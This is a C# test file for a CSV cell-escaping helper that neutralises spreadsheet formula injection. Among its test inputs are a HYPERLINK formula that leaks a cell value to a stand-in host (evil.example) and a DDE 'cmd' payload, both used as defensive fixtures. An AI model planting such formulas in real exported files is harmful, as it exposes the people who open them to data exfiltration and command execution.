using FsCheck;
using FsCheck.Fluent;

namespace Outdial.Platform.Tests.Csv;

public class SafeCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1)", "'=HYPERLINK(\"https://evil.example/?\"&A1)")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("  =1+1", "'  =1+1")]
    [InlineData("\u00A0=1+1", "'\u00A0=1+1")]
    [InlineData("\uFEFF=1+1", "'\uFEFF=1+1")]
    [InlineData("\"=1+1", "'\"=1+1")]
    [InlineData("＝1+1", "'＝1+1")]
    [InlineData("＋1", "'＋1")]
    [InlineData("－1", "'－1")]
    [InlineData("＠A1", "'＠A1")]
    [InlineData("\ttab", "'\ttab")]
    [InlineData("\rreturn", "'\rreturn")]
    [InlineData("\nline", "'\nline")]
    [InlineData(" \t=1", "' \t'=1")]
    [InlineData("+91 98250 12345", "'+91 98250 12345")]
    [InlineData("'=1", "''=1")]
    public void No_cell_begins_in_a_way_that_a_spreadsheet_would_run(string text, string written)
    {
        Assert.Equal(written, SafeCell.Write(text));
        Assert.Equal(text, SafeCell.Read(written));
    }

    [Theory]
    [InlineData("Asha;=1+1", "Asha;'=1+1")]
    [InlineData("Asha\t=1+1", "Asha\t'=1+1")]
    [InlineData("Asha\r\n=1+1;@x", "Asha\r\n'=1+1;'@x")]
    public void No_part_of_a_cell_runs_where_another_separator_cuts_it(string text, string written)
    {
        Assert.Equal(written, SafeCell.Write(text));
        Assert.Equal(text, SafeCell.Read(written));
    }

    [Theory]
    [InlineData("+919825012345")]
    [InlineData("-12.5")]
    [InlineData("+3")]
    [InlineData("a=b")]
    [InlineData("a - b, c + d")]
    [InlineData("asha@example.com")]
    [InlineData("O'Brien")]
    [InlineData("'quoted'")]
    [InlineData("")]
    public void Telephone_numbers_plain_numbers_and_words_are_left_alone(string text)
    {
        Assert.Equal(text, SafeCell.Write(text));
        Assert.Equal(text, SafeCell.Read(text));
    }

    [Fact]
    public void Whatever_is_written_is_read_as_it_was_and_no_piece_of_it_runs()
    {
        var text = Gen.ArrayOf(Gen.Elements('a', '1', '=', '+', '-', '@', '＝', '\'', '"', ' ', '\u00A0', ';', '\t', '\r', '\n', '.'))
            .Select(chars => new string(chars));

        Prop.ForAll(text.ToArbitrary(), original =>
        {
            var written = SafeCell.Write(original);
            return SafeCell.Read(written) == original && !written.Split(';', '\t', '\r', '\n').Any(WouldRun);
        }).QuickCheckThrowOnFailure();
    }

    // As the spreadsheet sees it: blanks and an opening quote are gone, an apostrophe says "text".
    private static bool WouldRun(string piece)
    {
        var seen = piece.TrimStart(' ', '\u00A0', '"');
        return seen is ['=' or '@' or '＝', ..]
            || (seen is ['+' or '-', ..] && !seen[1..].Trim('\'', '"', ' ', '\u00A0').All(c => char.IsAsciiDigit(c) || c == '.'));
    }
}
